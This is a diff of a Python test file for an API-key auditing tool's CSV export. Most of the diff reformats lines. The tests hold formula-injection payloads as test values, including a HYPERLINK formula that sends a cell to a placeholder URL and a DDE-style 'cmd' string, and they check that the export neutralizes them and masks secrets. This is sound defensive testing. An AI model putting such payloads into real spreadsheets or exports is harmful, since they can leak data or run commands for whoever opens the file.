@@ -36,7 +36,9 @@ def test_one_row_per_finding_in_report_order(result) -> None:
 
 
 def test_rows_end_with_crlf_and_line_breaks_inside_values_are_quoted() -> None:
-    result = build_result([*standard_keys(), make_key("key_y", name="a\nb", scopes=("payouts:write",))])
+    result = build_result(
+        [*standard_keys(), make_key("key_y", name="a\nb", scopes=("payouts:write",))]
+    )
     text = render_csv(result)
     assert text.endswith("\r\n") and text.split("\r\n")[0] == ",".join(COLUMNS)
     assert '"a\nb"' in text  # quoted: it cannot start a forged row
@@ -45,7 +47,15 @@ def test_rows_end_with_crlf_and_line_breaks_inside_values_are_quoted() -> None:
 
 @pytest.mark.parametrize(
     "value",
-    ['=HYPERLINK("https://x?"&A1)', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\0=1"],
+    [
+        '=HYPERLINK("https://x?"&A1)',
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "\0=1",
+    ],
 )
 def test_formula_triggers_get_an_apostrophe(value: str) -> None:
     assert neutralize(value) == "'" + value
@@ -63,7 +73,7 @@ def test_no_text_cell_starts_with_a_trigger_and_numbers_are_untouched() -> None:
             else:
                 assert not value.startswith(TRIGGERS), (column, value[:40])
     names = {row["key_name"] for row in rows}
-    assert "'-1+1" in names and "'@SUM(1)" in names and "'=HYPERLINK(\"https://x?\"&A1)" in names
+    assert "'-1+1" in names and "'@SUM(1)" in names and '\'=HYPERLINK("https://x?"&A1)' in names
     assert "lone \ufffd surrogate" in names  # encodable: a lone surrogate becomes U+FFFD
     [long] = [name for name in names if name.startswith("xxx")]
     assert len(long) == CELL_LIMIT and long.endswith("…")  # fits a spreadsheet cell
@@ -75,7 +85,9 @@ def test_negative_numbers_would_stay_numbers() -> None:
 
 def test_secrets_are_masked() -> None:
     secret = "rk_live_" + "Zy9Xw8Vu7Ts6Rq5P"
-    rows = rows_of(render_csv(build_result([make_key("key_s", name=secret, scopes=("refunds:write",))])))
+    rows = rows_of(
+        render_csv(build_result([make_key("key_s", name=secret, scopes=("refunds:write",))]))
+    )
     assert all(secret[8:] not in value for row in rows for value in row.values())
     assert any(row["key_name"] == "rk_live_…Rq5P" for row in rows)
 
@@ -86,11 +98,22 @@ def test_suppression_and_baseline_columns(result) -> None:
     from keyscope.analysis.triage import apply_suppressions
     from keyscope.model import Suppression
 
-    entry = Suppression("unused-scope", "key_recon", "payments:write", "=cmd reason", "ops", date(2026, 12, 1), "s#1")
+    entry = Suppression(
+        "unused-scope",
+        "key_recon",
+        "payments:write",
+        "=cmd reason",
+        "ops",
+        date(2026, 12, 1),
+        "s#1",
+    )
     rows = rows_of(render_csv(apply_suppressions(result, [entry], date(2026, 11, 1))))
     recon = next(row for row in rows if row["key_id"] == "key_recon")
     assert (recon["suppressed"], recon["suppression_reason"], recon["suppression_expires"]) == (
-        "true", "'=cmd reason", "2026-12-01")  # fmt: skip
+        "true",
+        "'=cmd reason",
+        "2026-12-01",
+    )
 
 
 def test_deterministic(result) -> None:
@@ -98,4 +121,6 @@ def test_deterministic(result) -> None:
 
 
 def test_golden_csv(result, snapshot_csv) -> None:
-    assert render_csv(result) == snapshot_csv
+    text = render_csv(result)
+    assert text.count("\r\n") == text.count("\n")  # every line ends with CRLF...
+    assert text.replace("\r\n", "\n") == snapshot_csv  # ...and golden files are stored with LF
